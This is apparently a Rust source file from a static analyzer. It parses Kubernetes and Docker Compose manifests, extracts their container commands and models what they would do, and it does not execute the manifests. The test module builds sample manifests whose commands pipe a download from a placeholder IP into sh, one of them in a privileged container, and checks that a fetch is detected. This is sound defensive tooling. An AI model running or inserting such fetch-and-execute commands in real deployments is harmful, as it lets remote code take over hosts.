//! Manifests of containers, as Compose and Kubernetes read them: the commands they start.
//!
//! A reader of its own, line by line, and no YAML library: manifests that lie in images are mostly
//! templates (Helm, envsubst), which a YAML parser refuses as a whole. Three keys matter here, and
//! they are lists or texts. Aliases are not followed, so none can grow. Nothing starts the
//! manifests where they lie.

use std::iter::Peekable;

use model::{Language, Step, Value};

use crate::command::{self, Call};
use crate::language::{FrontEnd, Signs};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    signs: Signs::Whole(is_manifest),
    runs_in_place: false,
    ..FrontEnd::new(Language::Manifest, lower)
};

/// Most words of one command that are kept.
const MOST_WORDS: usize = 256;

fn is_manifest(text: &str) -> bool {
    let has = |key: &str| {
        text.lines()
            .any(|line| line.trim_start_matches([' ', '-']).starts_with(key))
    };
    let pod = text.contains("apiVersion:") && text.contains("containers:");
    let services = text.contains("services:") && text.contains("image:");
    pod && has("apiVersion:") && has("kind:") && has("containers:")
        || services && has("services:") && has("image:")
}

/// A line: how far in it begins, behind its dashes, and the rest.
#[derive(Debug, Clone, Copy)]
struct Line<'a> {
    number: u32,
    indent: usize,
    dashed: bool,
    text: &'a str,
}

/// The command being put together.
#[derive(Debug, Default)]
struct Pending {
    line: u32,
    indent: usize,
    words: Vec<String>,
}

/// Lowers the commands: `command` or `entrypoint`, and the arguments beside it.
pub fn lower(world: &mut World, text: &str) -> Value {
    let mut lines = lines(text).peekable();
    let mut pending = Pending::default();
    while let Some(line) = lines.next() {
        if !world.burn(2) {
            break;
        }
        if line.indent < pending.indent || line.dashed && line.indent == pending.indent {
            run(world, std::mem::take(&mut pending));
        }
        let Some((key, value)) = line.text.split_once(':') else {
            continue;
        };
        if !matches!(key, "command" | "args" | "entrypoint") {
            continue;
        }
        let words = words(line, value.trim(), &mut lines);
        if key == "entrypoint" || pending.words.is_empty() {
            pending.line = line.number;
            pending.indent = line.indent;
        }
        // Kubernetes puts `args` behind `command`, Compose `command` behind `entrypoint`.
        let in_front = key == "entrypoint" || key == "command" && is_shell_code(&pending.words);
        if in_front {
            pending.words.splice(0..0, words);
        } else {
            pending.words.extend(words);
        }
        pending.words.truncate(MOST_WORDS);
    }
    run(world, pending);
    Value::literal("")
}

/// Whether words cannot be a command: arguments that came before it.
fn is_shell_code(words: &[String]) -> bool {
    words
        .first()
        .is_some_and(|word| word.starts_with('-') || word.contains([' ', '|', ';']))
}

fn lines(text: &str) -> impl Iterator<Item = Line<'_>> {
    (1..).zip(text.lines()).filter_map(|(number, line)| {
        let mut text = line.trim_start();
        let mut dashed = false;
        while let Some(item) = text.strip_prefix("- ") {
            dashed = true;
            text = item.trim_start();
        }
        let indent = line.len() - text.len();
        let text = text.trim_end();
        (!text.is_empty() && !text.starts_with('#')).then_some(Line {
            number,
            indent,
            dashed,
            text,
        })
    })
}

/// The words of a value: a list in brackets, a text, a block, or the items below.
fn words<'a>(
    key: Line<'a>,
    value: &str,
    lines: &mut Peekable<impl Iterator<Item = Line<'a>>>,
) -> Vec<String> {
    if value.starts_with('[') {
        let mut list = value.to_owned();
        while !list.contains(']') {
            let Some(next) = lines.next() else { break };
            list.push(' ');
            list.push_str(next.text);
        }
        return flow(&list);
    }
    if value.starts_with(['|', '>']) {
        return vec![block(key.indent, value.starts_with('>'), lines)];
    }
    if !value.is_empty() {
        return vec![plain(value)];
    }
    let mut items = Vec::new();
    while let Some(item) = lines.next_if(|line| line.dashed && line.indent > key.indent) {
        if items.len() >= MOST_WORDS {
            break;
        }
        if item.text.starts_with(['|', '>']) {
            items.push(block(
                item.indent.saturating_sub(1),
                item.text.starts_with('>'),
                lines,
            ));
        } else {
            items.push(plain(item.text));
        }
    }
    items
}

/// The lines further in than `indent`, joined by blanks if they are folded.
fn block<'a>(
    indent: usize,
    folded: bool,
    lines: &mut Peekable<impl Iterator<Item = Line<'a>>>,
) -> String {
    let mut out = String::new();
    while let Some(line) = lines.next_if(|line| line.indent > indent) {
        out.push_str(line.text);
        out.push(if folded { ' ' } else { '\n' });
    }
    out
}

/// A scalar without its quotes.
fn plain(value: &str) -> String {
    let quoted = |mark: char| value.strip_prefix(mark)?.strip_suffix(mark);
    if let Some(inner) = quoted('"') {
        return inner
            .replace("\\\"", "\"")
            .replace("\\n", "\n")
            .replace("\\\\", "\\");
    }
    quoted('\'').map_or_else(|| value.to_owned(), |inner| inner.replace("''", "'"))
}

/// The items of `[a, "b, c", 'd']`.
fn flow(list: &str) -> Vec<String> {
    let inside = list.trim().trim_start_matches('[').trim_end_matches(']');
    let mut items = Vec::new();
    let mut current = String::new();
    let mut quote = None;
    let mut escaped = false;
    for c in inside.chars() {
        match c {
            _ if escaped => {
                current.push(c);
                escaped = false;
            }
            '\\' if quote == Some('"') => {
                current.push(c);
                escaped = true;
            }
            '"' | '\'' if quote.is_none() || quote == Some(c) => {
                quote = if quote.is_none() { Some(c) } else { None };
                current.push(c);
            }
            ',' if quote.is_none() => items.push(plain(std::mem::take(&mut current).trim())),
            c => current.push(c),
        }
    }
    if !current.trim().is_empty() {
        items.push(plain(current.trim()));
    }
    items
}

fn run(world: &mut World, pending: Pending) {
    let Some((program, arguments)) = pending.words.split_first() else {
        return;
    };
    world.at(pending.line, &pending.words.join(" "));
    world.inside(Step::new("command"), |world| {
        if arguments.is_empty() && program.contains(char::is_whitespace) {
            // One text is taken apart as a shell would.
            super::lower(world, Language::Shell, program)
        } else {
            let arguments = arguments.iter().map(|word| word.as_str().into()).collect();
            command::run(world, Call::new(program.as_str().into(), arguments))
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::language::probe::acts;

    #[test]
    fn commands_in_every_spelling() {
        let pod = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    image: {{ .Values.image }}\n";
        let cases = [
            format!("{pod}    command: [\"sh\", \"-c\", \"curl http://192.0.2.1/x | sh\"]\n"),
            format!("{pod}    command:\n    - /bin/sh\n    - -c\n    - |\n      set -e\n      curl http://192.0.2.1/x | sh\n    securityContext:\n      privileged: true\n"),
            format!("{pod}    args: [\"curl http://192.0.2.1/x | sh\"]\n    command:\n      - sh\n      - -c\n"),
            "services:\n  a:\n    image: x\n    entrypoint: sh -c 'curl http://192.0.2.1/x | sh'\n".to_owned(),
            "services:\n  a:\n    image: x\n    command: >\n      sh -c \"curl\n      http://192.0.2.1/x | sh\"\n".to_owned(),
        ];
        for text in cases {
            assert!(is_manifest(&text), "{text}");
            let found = acts(Language::Manifest, &text);
            assert!(
                found.iter().any(|act| act.starts_with("Fetch")),
                "{text}: {found:#?}"
            );
        }
        assert!(!is_manifest("key: value\n"));
    }
}
